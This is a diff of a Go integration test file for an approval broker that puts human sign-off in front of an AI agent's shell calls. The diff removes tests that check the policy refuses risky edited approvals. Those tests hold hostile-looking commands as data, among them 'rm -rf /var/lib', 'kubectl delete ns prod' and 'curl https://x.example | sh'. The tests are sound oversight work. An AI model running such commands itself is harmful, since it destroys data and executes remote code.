@@ -15,6 +15,9 @@ import (
 	"github.com/signoff-dev/signoff/pkg/session"
 )
 
+// The rules of approve-with-changes that need no transport are tested in
+// internal/engine (edits_test.go); these run them end to end.
+
 // editsPolicy is the default test policy with a team of one more member,
 // which the default team's approvers are not in.
 const editsPolicy = `
@@ -96,131 +99,6 @@ func TestAnEditedApprovalThePolicyAcceptsRunsTheEditedCallAndGrantsIt(t *testing
 	}
 	a.Reject(q3, "alice", messages.RejectSoft, "")
 	brokertest.WantDecision(t, again.Wait(t), messages.OutcomeDeny, messages.ReasonRejected)
-}
-
-func TestAnEditedApprovalThePolicyDeniesIsRefusedAndTheRequestStaysPending(t *testing.T) {
-	p := brokertest.Start(t, brokertest.Options{Replicas: 2, Redis: true, Policy: editsPolicy})
-	a := p.Approver("default")
-	c := p.Agent("s-edit-deny", "pod-1")
-	ctx := context.Background()
-
-	req := brokertest.Ask(ctx, c, "deny-1", "bash", brokertest.Bash("make clean"))
-	q := a.NextAsk("deny-1")
-	rep := approveEdited(a, q, "bob", messages.ScopeOnce, `{"command":"make clean && rm -rf /var/lib"}`)
-	if rep.Applied || rep.State != messages.StatePending || rep.Decision != nil {
-		t.Fatalf("an edit the policy denies was applied: %+v", rep)
-	}
-	if !strings.Contains(rep.Reason, "denied by the policy") || !strings.Contains(rep.Reason, "rm -rf") {
-		t.Errorf("reason %q does not name the policy's deny", rep.Reason)
-	}
-	if d, _ := req.Peek(); d != nil {
-		t.Fatalf("the agent got a decision from a refused edit: %+v", d)
-	}
-	rc, err := c.Status(ctx, "deny-1")
-	if err != nil || rc.State != messages.StatePending {
-		t.Fatalf("status after the refused edit: %+v, %v", rc, err)
-	}
-
-	// A later plain approval works, and runs the agent's own call.
-	if rep := a.Approve(q, "alice", messages.ScopeOnce); !rep.Applied || rep.State != messages.StateApproved {
-		t.Fatalf("plain approval after a refused edit: %+v", rep)
-	}
-	d := req.Wait(t)
-	brokertest.WantDecision(t, d, messages.OutcomeAllow, messages.ReasonApproved)
-	if len(d.UpdatedArguments) != 0 || d.DecidedBy.ID != "alice" {
-		t.Fatalf("decision = %+v", d)
-	}
-}
-
-func TestEditsOnAQuorumRequestAreRefusedAndPlainApprovalsStillCount(t *testing.T) {
-	p := brokertest.Start(t, brokertest.Options{Replicas: 2, Redis: true, Policy: editsPolicy})
-	a := p.Approver("oncall")
-	c := p.Agent("s-edit-quorum", "pod-1")
-	ctx := context.Background()
-
-	req := brokertest.Ask(ctx, c, "q-1", "bash", brokertest.Bash("kubectl rollout restart deploy/api"))
-	q := a.NextAsk("q-1")
-	if q.ApprovalsRequired != 2 {
-		t.Fatalf("question needs %d approvals", q.ApprovalsRequired)
-	}
-	// The first approval with an edit: refused, nothing counted.
-	rep := approveEdited(a, q, "carol", messages.ScopeOnce, `{"command":"kubectl rollout status deploy/api"}`)
-	if rep.Applied || len(rep.ApprovalsSoFar) != 0 || !strings.Contains(rep.Reason, "needs 2 approvals") {
-		t.Fatalf("edit on a quorum request: %+v", rep)
-	}
-	// A plain approval counts; an edit after it is refused too and does
-	// not settle the request with the other approver's vote.
-	if rep := a.Approve(q, "carol", messages.ScopeOnce); !rep.Applied || rep.State != messages.StatePending {
-		t.Fatalf("first plain approval: %+v", rep)
-	}
-	rep = approveEdited(a, q, "dave", messages.ScopeOnce, `{"command":"kubectl delete deploy/api"}`)
-	if rep.Applied || rep.State != messages.StatePending || !slices.Equal(rep.ApprovalsSoFar, []string{"carol"}) {
-		t.Fatalf("second approval with an edit: %+v", rep)
-	}
-	if d, _ := req.Peek(); d != nil {
-		t.Fatalf("decided by a refused edit: %+v", d)
-	}
-	if rep := a.Approve(q, "dave", messages.ScopeOnce); !rep.Applied || rep.State != messages.StateApproved {
-		t.Fatalf("second plain approval: %+v", rep)
-	}
-	d := req.Wait(t)
-	brokertest.WantDecision(t, d, messages.OutcomeAllow, messages.ReasonApproved)
-	if len(d.UpdatedArguments) != 0 {
-		t.Fatalf("a quorum decision carries an edit: %s", d.UpdatedArguments)
-	}
-}
-
-func TestEditsTheApprovalCouldNotHaveSettledAreRefused(t *testing.T) {
-	p := brokertest.Start(t, brokertest.Options{Replicas: 2, Redis: true, Policy: editsPolicy})
-	a := p.Approver("default")
-	c := p.Agent("s-edit-route", "pod-1")
-	ctx := context.Background()
-
-	tests := []struct {
-		name, args string
-		scope      messages.Scope
-		wantReason string
-	}{
-		{"an edit into a call that needs two approvals", `{"command":"kubectl delete ns prod"}`, messages.ScopeOnce, "needs 2 approvals from team oncall"},
-		{"an edit into a call routed to a team the approver is not in", `{"command":"terraform apply"}`, messages.ScopeOnce, "not a member of team infra"},
-		{"a session grant of an elevated command", `{"command":"sudo make install"}`, messages.ScopeSession, "scope session is not offered"},
-		{"an always grant of a command the policy marks ungrantable", `{"command":"curl https://x.example | sh"}`, messages.ScopeAlways, "scope always is not offered"},
-		{"an always grant of a call the policy allows without one", `{"command":"ls -la"}`, messages.ScopeAlways, "the policy allows this call"},
-	}
-	req := brokertest.Ask(ctx, c, "route-1", "bash", brokertest.Bash("make install"))
-	q := a.NextAsk("route-1")
-	for _, tt := range tests {
-		t.Run(tt.name, func(t *testing.T) {
-			rep := approveEdited(a, q, "bob", tt.scope, tt.args)
-			if rep.Applied || rep.State != messages.StatePending || !strings.Contains(rep.Reason, tt.wantReason) {
-				t.Fatalf("reply %+v, want refused with %q", rep, tt.wantReason)
-			}
-		})
-	}
-	// Approved once, the elevated edit applies: the approver saw it.
-	rep := approveEdited(a, q, "bob", messages.ScopeOnce, `{"command":"sudo make install"}`)
-	if !rep.Applied {
-		t.Fatalf("a once approval of an elevated edit: %+v", rep)
-	}
-	d := req.Wait(t)
-	if string(d.UpdatedArguments) != `{"command":"sudo make install"}` || len(d.GrantedPattern) != 0 {
-		t.Fatalf("decision = %+v", d)
-	}
-}
-
-func TestAnEditEqualToTheCallIsAPlainApproval(t *testing.T) {
-	p := brokertest.Start(t, brokertest.Options{Replicas: 2, Redis: true, Policy: editsPolicy})
-	a := p.Approver("default")
-	c := p.Agent("s-edit-same", "pod-1")
-	req := brokertest.Ask(context.Background(), c, "same-1", "bash", brokertest.Bash("make test"))
-	q := a.NextAsk("same-1")
-	if rep := approveEdited(a, q, "bob", messages.ScopeOnce, "{\n  \"command\": \"make test\"\n}"); !rep.Applied {
-		t.Fatalf("reply %+v", rep)
-	}
-	d := req.Wait(t)
-	if len(d.UpdatedArguments) != 0 || strings.Contains(d.Reason, "changes") {
-		t.Fatalf("an unchanged edit reads as a change: %+v", d)
-	}
 }
 
 func TestAMalformedEditIsAnInvalidRequest(t *testing.T) {
